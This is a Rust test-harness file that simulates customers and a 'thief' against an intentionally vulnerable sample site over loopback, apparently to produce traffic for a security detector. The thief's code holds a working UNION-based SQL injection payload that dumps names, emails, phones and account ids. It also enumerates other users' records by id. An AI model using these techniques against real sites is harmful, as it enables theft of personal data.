//! Who uses the sample site in a scenario: ordinary customers, and a thief.
//!
//! Both go through real sockets on the loopback interface. What they do is bounded by the scenario's numbers.

use crate::client::{Answer, Client, percent_encoded};
use crate::site::password;
use sekisho_testkit::Person;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};

/// What ordinary customers look for.
const SEARCHES: [&str; 6] = ["スワップ", "初心者", "確定申告", "O'Brien", "USD/JPY", "セミナー"];

/// A customer signs in, looks at their own pages, searches seminars and leaves; every third one signs up for a seminar,
/// which shows them what they typed.
///
/// Returns the requests made.
pub async fn visit(server: SocketAddr, address: Ipv4Addr, number: usize, person: &Person) -> io::Result<u32> {
    let mut client = Client::new(server, address);
    let search = SEARCHES[number % SEARCHES.len()];
    let encoding = if number.is_multiple_of(2) { "utf-8" } else { "shift_jis" };
    reached(client.get("/").await?)?;
    sign_in(&mut client, &person.account_id).await?;
    reached(client.get("/mypage").await?)?;
    reached(client.get("/api/positions").await?)?;
    reached(client.get(&format!("/statement.csv?encoding={encoding}")).await?)?;
    for typed in (1..=search.chars().count()).map(|length| search.chars().take(length).collect::<String>()) {
        reached(client.get(&format!("/api/autocomplete?q={}", percent_encoded(&typed))).await?)?;
    }
    // An apostrophe breaks the search's statement: that answer is an error page.
    client.get(&format!("/seminars?q={}", percent_encoded(search))).await?;
    if number.is_multiple_of(3) {
        let (name, kana) = (person.name(), person.kana());
        let fields = [("name", &name), ("kana", &kana), ("email", &person.email), ("phone", &person.phone)];
        reached(client.post("/seminars/1/apply", &fields.map(|(field, value)| (field, value.as_str()))).await?)?;
    }
    reached(client.get("/logout").await?)?;
    Ok(client.requests())
}

/// How much the thief takes.
#[derive(Clone, Copy, Debug)]
pub struct Loot {
    /// Seminar applicants: name, mail, telephone number, by injection.
    pub applicants: usize,
    /// Account holders: name, mail, account id, by injection.
    pub accounts: usize,
    /// Rows of one injected page.
    pub page_rows: usize,
    /// Account records read one by one with an account of the thief's own.
    pub records: usize,
}

/// The thief: first the seminar search, then other people's records (hole 2), signed in as the first account of the
/// site. `client` should capture.
///
/// Returns the requests made.
pub async fn steal(client: &mut Client, loot: Loot, own_account_id: &str) -> io::Result<u32> {
    for offset in (0..loot.applicants).step_by(loot.page_rows) {
        let rows = loot.page_rows.min(loot.applicants - offset);
        inject(client, "name, email, phone, applicant_id FROM applicants", rows, offset).await?;
    }
    for offset in (0..loot.accounts).step_by(loot.page_rows) {
        let rows = loot.page_rows.min(loot.accounts - offset);
        inject(client, "name, email, account_id, '' FROM accounts", rows, offset).await?;
    }
    sign_in(client, own_account_id).await?;
    for record in (2..).take(loot.records) {
        reached(client.get(&format!("/api/customers/{record}")).await?)?;
    }
    Ok(client.requests())
}

/// Continues the search's statement with one of the thief's (hole 1).
async fn inject(client: &mut Client, selection: &str, rows: usize, offset: usize) -> io::Result<()> {
    let typed = format!("zzz%' UNION ALL SELECT 0, {selection} LIMIT {rows} OFFSET {offset} --");
    reached(client.get(&format!("/seminars?q={}", percent_encoded(&typed))).await?)
}

async fn sign_in(client: &mut Client, account_id: &str) -> io::Result<()> {
    reached(client.post("/login", &[("account_id", account_id), ("password", &password(account_id))]).await?)
}

/// A page or a redirect came; anything else would make the scenario another one without saying so.
fn reached(answer: Answer) -> io::Result<()> {
    match answer.status {
        200..=399 => Ok(()),
        status => Err(io::Error::other(format!("the site answered with {status}"))),
    }
}
